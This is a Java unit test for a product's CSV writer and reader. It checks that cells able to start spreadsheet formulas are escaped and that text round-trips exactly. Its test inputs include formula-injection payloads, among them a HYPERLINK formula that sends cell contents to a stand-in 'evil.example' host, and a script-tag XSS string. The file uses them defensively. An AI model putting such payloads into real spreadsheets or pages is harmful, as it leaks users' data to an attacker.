package org.entente.shared;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.StringReader;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** The product's one CSV writer and reader: formulas never start a cell, reading gives it back. */
class CsvTest {

  private static final List<String> FORMULAS =
      List.of(
          "=1+2",
          "+1+2",
          "-1+2",
          "@cmd",
          "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
          "\t=1+2",
          "\r=1+2",
          "\uFF1D1+2",
          "\uFF0B1",
          "\uFF0D1",
          "\uFF20SUM(A1)",
          "-",
          "=");

  /** Writes the texts as one column and reads them back the product's way. */
  private static List<String> roundTrip(List<String> texts) throws Exception {
    Csv.Writer writer = Csv.writer("text");
    texts.forEach(t -> writer.row(t));
    List<String> read = new ArrayList<>();
    try (CSVParser parser = Csv.read(new StringReader(writer.toString()))) {
      for (CSVRecord r : parser) {
        read.add(Csv.get(r, "text"));
      }
    }
    return read;
  }

  @Test
  void aCellThatCouldStartAFormulaIsWrittenBehindASingleQuote() {
    for (String formula : FORMULAS) {
      String cell = Csv.cell(formula);
      assertThat(cell).as(formula).startsWith("'");
    }
    assertThat(Csv.cell("=1+2")).isEqualTo("'=1+2");
    assertThat(Csv.cell("@cmd")).isEqualTo("'@cmd");
  }

  @Test
  void aNumberStaysANumber() {
    for (String number : List.of("-5", "-12.5", "-1.5E3", "0", "150000000", "49.41")) {
      assertThat(Csv.cell(number)).isEqualTo(number);
    }
    assertThat(Csv.cell(-77.03)).isEqualTo("-77.03");
    assertThat(Csv.cell("-5+1")).isEqualTo("'-5+1");
    assertThat(Csv.cell("-5 ")).isEqualTo("'-5 ");
  }

  @Test
  void ordinaryTextIsWrittenAsItIs() {
    for (String text : List.of("Port of Alat", "Ələt limanı", "a=b", "it's", "'quoted'", "")) {
      assertThat(Csv.cell(text)).isEqualTo(text);
    }
    assertThat(Csv.cell(null)).isEmpty();
  }

  @Test
  void readingGivesBackExactlyWhatWasWritten() throws Exception {
    List<String> texts = new ArrayList<>(FORMULAS);
    texts.removeIf(t -> t.startsWith("\t") || t.startsWith("\r"));
    texts.addAll(
        List.of(
            "'=1+2",
            "''=1+2",
            "'",
            "''",
            "'hello",
            "''hello",
            "-5",
            "a,b\n\"c\"",
            "Ələt 🚢 \u202Eevil",
            "<script>alert(1)</script> & ]]>"));
    assertThat(roundTrip(texts)).containsExactlyElementsOf(texts);
  }

  @Test
  void aQuoteTypedByHandInFrontOfAFormulaIsReadAsTheSpreadsheetShowsIt() throws Exception {
    try (CSVParser parser = Csv.read(new StringReader("text,other\n'=1+2,'hello\n"))) {
      CSVRecord r = parser.iterator().next();
      assertThat(Csv.get(r, "text")).isEqualTo("=1+2");
      assertThat(Csv.get(r, "other")).isEqualTo("'hello");
      assertThat(Csv.get(r, "missing")).isEmpty();
    }
  }

  @Test
  void storedControlCharactersAndLoneSurrogatesAreReplacedSoTheFileReadsBack() throws Exception {
    String stored = "a\u0000b\uD800c\r\nd\u0007e\u009Bf";
    String cell = Csv.cell(stored);
    assertThat(cell).isEqualTo("a\uFFFDb\uFFFDc\nd\uFFFDe\uFFFDf");
    assertThat(roundTrip(List.of(stored))).containsExactly(cell);
  }

  @Test
  void readingNormalisesToNfcAndLfAndRefusesControlCharactersNamingTheColumn() throws Exception {
    try (CSVParser parser =
        Csv.read(new StringReader("name,bad,lone\n\"Ə\u0301\r\nx\",\"a\u0001b\",\"x\uD800\"\n"))) {
      CSVRecord r = parser.iterator().next();
      assertThat(Csv.get(r, "name")).isEqualTo("\u018F\u0301\nx".replace("\u018F\u0301", "Ə́"));
      assertThat(Csv.get(r, "name"))
          .isEqualTo(java.text.Normalizer.normalize("Ə\u0301\nx", java.text.Normalizer.Form.NFC));
      assertThatThrownBy(() -> Csv.get(r, "bad"))
          .isInstanceOfSatisfying(
              BadRequestException.class,
              e -> {
                assertThat(e.field()).isEqualTo("bad");
                assertThat(e.getMessage()).contains("U+0001").contains("'bad'");
              });
      assertThatThrownBy(() -> Csv.get(r, "lone"))
          .isInstanceOfSatisfying(
              BadRequestException.class, e -> assertThat(e.getMessage()).contains("U+D800"));
    }
    try (CSVParser parser = Csv.read(new StringReader("name\ne\u0301\n"))) {
      assertThat(Csv.get(parser.iterator().next(), "name")).isEqualTo("\u00E9");
    }
  }

  @Test
  void aHeaderThatCannotBeReadIsABadRequestNamingTheFile() {
    for (String file : List.of("\u0000\u0001\u0002\n", "a,a,a\n", "key,,title\n", "\"a\n")) {
      assertThatThrownBy(() -> Csv.read(new StringReader(file)))
          .as(file)
          .isInstanceOfSatisfying(
              BadRequestException.class, e -> assertThat(e.field()).isEqualTo("file"));
    }
  }

  @Test
  void printableTextForXmlKeepsWhatXmlHoldsAndReplacesTheRest() {
    assertThat(Printable.xml("a\tb\nc\rd Ələt 🚢 \u0085")).isEqualTo("a\tb\nc\rd Ələt 🚢 \u0085");
    assertThat(Printable.xml("a\u0000b\uD800c\uDC00d\uFFFE"))
        .isEqualTo("a\uFFFDb\uFFFDc\uFFFDd\uFFFD");
    assertThat(Printable.xml("\uDBFF")).isEqualTo("\uFFFD");
    assertThat(Printable.xml(null)).isNull();
  }
}
